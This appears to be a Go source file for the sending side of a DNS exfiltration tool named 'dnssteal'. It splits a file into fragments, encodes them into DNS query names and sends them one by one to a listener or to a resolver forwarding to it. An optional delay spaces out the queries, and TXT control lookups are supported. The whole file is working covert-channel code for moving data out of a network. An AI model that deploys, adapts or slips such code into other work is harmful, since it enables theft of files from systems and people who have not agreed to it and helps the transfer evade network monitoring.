// SPDX-License-Identifier: GPL-3.0-or-later

package dnssteal

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"time"
	"unicode/utf8"

	"github.com/miekg/dns"
)

// ErrBinaryContent means the content is not valid UTF-8. The listener
// decodes content lossily and verifies the checksum of the decoded text,
// so such a file would always be discarded.
var ErrBinaryContent = errors.New("content is not valid UTF-8")

// Sender transmits files to a listener, one query per fragment.
//
// Construct using [NewSender] and then adjust the OPTIONAL fields.
type Sender struct {
	// Client is the DNS client used to exchange messages.
	Client *dns.Client

	// Delay is the OPTIONAL pause between two consecutive queries.
	Delay time.Duration

	// Encoder produces the query names.
	Encoder *Encoder

	// Flags are the [Query] flags to use.
	Flags uint16

	// Logger is the logger to use.
	Logger *slog.Logger

	// QueryType is the type of the data queries. It must not be
	// TXT, which the listener reserves for control queries.
	QueryType uint16

	// Server is the address of the listener or of a resolver
	// forwarding to it, e.g., "127.0.0.1:53".
	Server string
}

// NewSender creates a [*Sender] with default settings.
func NewSender(server string, encoder *Encoder) *Sender {
	return &Sender{
		Client:    &dns.Client{Net: "udp", Timeout: 2 * time.Second},
		Encoder:   encoder,
		Logger:    slog.Default(),
		QueryType: dns.TypeA,
		Server:    server,
	}
}

// Send transmits a file and returns its transfer ID. The listener will
// assemble it once the idle threshold elapses after the last query.
func (s *Sender) Send(ctx context.Context, filename string, content []byte) (string, error) {
	if s.QueryType == dns.TypeTXT {
		return "", fmt.Errorf("%w: data queries cannot use TXT", ErrInvalidQuery)
	}
	if !utf8.Valid(content) {
		return "", fmt.Errorf("%w: %s", ErrBinaryContent, filename)
	}

	// 1. produce all the names before sending anything
	id, fragments := s.Encoder.EncodeFile(filename, content)
	names, err := s.Encoder.Names(id, fragments)
	if err != nil {
		return "", err
	}

	// 2. send each name and make sure the listener accepted it
	for seq, name := range names {
		query, resp, err := s.exchange(ctx, name, s.QueryType)
		if err != nil {
			return "", fmt.Errorf("fragment %d: %w", seq, err)
		}
		if _, err := ValidateResponseForQuery(query, resp); err != nil {
			return "", fmt.Errorf("fragment %d: %w", seq, err)
		}
		if err := ResponseErrorFromRCODE(resp); err != nil {
			return "", fmt.Errorf("fragment %d: %w", seq, err)
		}
		s.Logger.Debug("sent fragment", slog.String("id", id), slog.Int("seq", seq))

		if s.Delay > 0 && seq < len(names)-1 {
			select {
			case <-ctx.Done():
				return "", ctx.Err()
			case <-time.After(s.Delay):
			}
		}
	}

	s.Logger.Info("sent file", slog.String("id", id), slog.String("filename", filename), slog.Int("fragments", len(names)))
	return id, nil
}

// Lookup performs a control query, i.e., "file" or "help", and
// returns the text served by the listener.
func (s *Sender) Lookup(ctx context.Context, what string) (string, error) {
	zone, err := s.Encoder.asciiZone()
	if err != nil {
		return "", err
	}
	query, resp, err := s.exchange(ctx, what+"."+zone, dns.TypeTXT)
	if err != nil {
		return "", err
	}
	parsed, err := ParseResponse(query, resp)
	if err != nil {
		return "", err
	}
	records, err := parsed.RecordsTXT()
	if err != nil {
		return "", err
	}
	return records[0], nil
}

func (s *Sender) exchange(ctx context.Context, name string, qtype uint16) (*dns.Msg, *dns.Msg, error) {
	q := NewQuery(name, qtype)
	q.Flags = s.Flags
	query, err := q.NewMsg()
	if err != nil {
		return nil, nil, err
	}
	resp, _, err := s.Client.ExchangeContext(ctx, query, s.Server)
	if err != nil {
		return nil, nil, err
	}
	return query, resp, nil
}
